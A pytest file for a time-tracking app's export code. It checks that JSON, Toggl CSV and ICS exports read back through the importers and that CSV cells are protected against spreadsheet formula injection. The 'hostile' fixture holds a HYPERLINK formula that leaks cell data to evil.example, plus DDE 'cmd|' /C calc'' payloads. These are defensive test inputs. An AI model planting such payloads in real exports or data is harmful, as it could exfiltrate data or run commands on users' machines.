"""Exports round-trip: JSON back in losslessly, Toggl CSV and ICS back through their importers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import timedelta
from functools import partial
from pathlib import Path

import pytest

from sec_desktop.framework import Framework
from sec_desktop.interop import ImportFileError, ImportOptions, apply_plan, plan_import
from sec_desktop.interop.exports import (
    TOGGL_COLUMNS,
    csv_safe,
    export_csv,
    export_ics,
    export_json,
    export_toggl_csv,
)
from sec_desktop.interop.importers import ics, toggl
from sec_desktop.store import Entry, EntryStore
from tests.helpers.entries import make_entry
from tests.helpers.ids import BOARD, INCIDENT, MENTORSHIP, SECURITY

from .conftest import BERLIN, NOW, berlin


@pytest.fixture
def entries() -> list[Entry]:
    make = partial(make_entry, device="laptop-1", now=NOW)

    return [
        make(berlin(2026, 3, 2, 9, 0), 90, BOARD, labels=("q1", "board"), note='=deck, "v2"'),
        make(berlin(2026, 3, 29, 1, 30), 60, INCIDENT, note="Über-outage ☎"),
        # 02:30 summer time to 02:15 winter time on the fall-back night.
        make(berlin(2026, 10, 25, 2, 30), 45, MENTORSHIP),
        make(berlin(2026, 3, 3, 23, 0), 120, SECURITY),
    ]


def test_json_export_comes_back_unchanged(entries, framework, store, tmp_path) -> None:
    edited = entries[0].edited(NOW + timedelta(hours=1), note="edited later")
    originals = [edited, *entries[1:]]
    path = tmp_path / "export.json"
    path.write_bytes(export_json(originals, framework, NOW))
    result = plan_import(path, "sec-json", store=store, framework=framework, zone=BERLIN, now=NOW)
    assert apply_plan(result, store) == 4
    back = {e.id: e for e in store.entries()}
    for original in originals:
        assert back[original.id] == replace(original, device=store.device_id)
    again = plan_import(path, "sec-json", store=store, framework=framework, zone=BERLIN, now=NOW)
    assert again.new_entries == []
    assert again.already_imported == 4


def test_json_with_a_bad_entry_names_its_line(framework, store, tmp_path, entries) -> None:
    text = export_json(entries, framework, NOW).decode()
    text = text.replace('"activity": "' + INCIDENT, '"activity": 7, "x": "', 1)
    path = tmp_path / "export.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ImportFileError, match="activity must be text") as caught:
        plan_import(path, "sec-json", store=store, framework=framework, zone=BERLIN, now=NOW)
    assert text.splitlines()[caught.value.line - 1].strip() == "{"


def test_toggl_csv_has_toggl_columns_then_sec_levels(entries, framework) -> None:
    text = export_toggl_csv(entries, framework, BERLIN)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == TOGGL_COLUMNS
    first = rows[0]
    assert (first["Start date"], first["Start time"], first["End time"]) == (
        "2026-03-02",
        "09:00:00",
        "10:30:00",
    )
    assert first["Duration"] == "1:30:00"
    assert first["Description"] == '\'=deck, "v2"'  # a formula-like cell is neutralised
    assert (first["SEC domain"], first["SEC focus area"], first["SEC activity"]) == (
        "Strategy",
        "Stakeholder Management",
        "Board communications",
    )
    assert first["SEC activity id"] == BOARD
    assert rows[3]["SEC activity"] == ""  # tagged at focus-area level
    assert rows[3]["SEC focus area"] == "Security & Compliance"


def test_toggl_csv_reads_back_with_the_same_times(entries, framework, tmp_path) -> None:
    path = tmp_path / "toggl.csv"
    path.write_text(export_toggl_csv(entries, framework, BERLIN), encoding="utf-8")
    records = toggl.parse(path, ImportOptions(zone=BERLIN, now=NOW)).records
    assert [(r.start, r.end) for r in records] == [(e.start, e.end) for e in entries]
    assert records[1].title == "Über-outage ☎"


def test_ics_has_one_event_per_entry_and_reads_back(entries, framework, tmp_path) -> None:
    data = export_ics(entries, framework, NOW)
    assert data.count(b"BEGIN:VEVENT") == len(entries)
    path = tmp_path / "sec.ics"
    path.write_bytes(data)
    records = ics.parse(path, ImportOptions(zone=BERLIN, now=NOW)).records
    assert sorted((r.source_id, r.start, r.end) for r in records) == sorted(
        (e.id, e.start, e.end) for e in entries
    )
    board = next(r for r in records if r.source_id == entries[0].id)
    assert board.title == "Board communications"
    assert board.tags == ("Strategy", "Stakeholder Management", "q1", "board")


def test_ics_export_maps_back_by_the_shipped_rules(
    entries, framework: Framework, store: EntryStore, tmp_path: Path
) -> None:
    path = tmp_path / "sec.ics"
    path.write_bytes(export_ics(entries[:2], framework, NOW))
    result = plan_import(path, "ics", store=store, framework=framework, zone=BERLIN, now=NOW)
    assert sorted(e.activity for e in result.new_entries) == sorted([BOARD, INCIDENT])


# What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile(framework: Framework) -> tuple[Framework, list[Entry]]:
    """A framework whose activity label was renamed to a formula (the customization allows any
    text), and entries whose id, unknown activity, labels and note came from a hostile file."""
    from sec_desktop.framework.customization import Customization, apply_customization

    renamed = apply_customization(framework, Customization().rename(framework, BOARD, HYPERLINK))
    make = partial(make_entry, device="laptop-1", now=NOW)
    return renamed, [
        replace(make(berlin(2026, 3, 2, 9, 0), 60, BOARD), id="@SUM(1+1)*cmd|' /C calc'!A0"),
        replace(
            make(berlin(2026, 3, 2, 11, 0), 30, "-2+3+cmd|' /C calc'!A0"),
            id="+1+1",
            labels=("=1+2", "\tx"),
            note="\r=1+1",
        ),
        make(berlin(2026, 3, 2, 12, 0), 30, MENTORSHIP, labels=(" =spaced",), note="-note"),
    ]


def _formula_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 4
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)]


def test_csv_export_neutralises_every_text_cell(hostile) -> None:
    framework, entries = hostile
    text = export_csv(entries, framework)
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["id"] == "'" + entries[0].id
    assert rows[0]["activity"] == "'" + HYPERLINK
    assert rows[1]["activity_id"] == "'" + entries[1].activity
    assert rows[1]["labels"] == "'=1+2, \tx"
    assert rows[1]["note"] == "'\r=1+1"
    assert rows[2]["labels"] == "' =spaced"


def test_toggl_csv_export_neutralises_every_text_cell(hostile) -> None:
    framework, entries = hostile
    text = export_toggl_csv(entries, framework, BERLIN)
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["Description"] == rows[0]["SEC activity"] == "'" + HYPERLINK
    assert rows[0]["SEC activity id"] == BOARD
    assert rows[1]["SEC activity id"] == "'" + entries[1].activity
    assert rows[2]["Description"] == "'-note"


@pytest.mark.parametrize("cell", ["=1", "  +1", "\n=1", "\uff1dSUM(A1)", "\uff20x", "-1"])
def test_csv_safe_quotes_what_a_spreadsheet_would_run(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "plan = done", "a-b", "2026-03-02", "1:30:00", "12.50"])
def test_csv_safe_leaves_plain_text_and_numbers(cell: str) -> None:
    assert csv_safe(cell) == cell
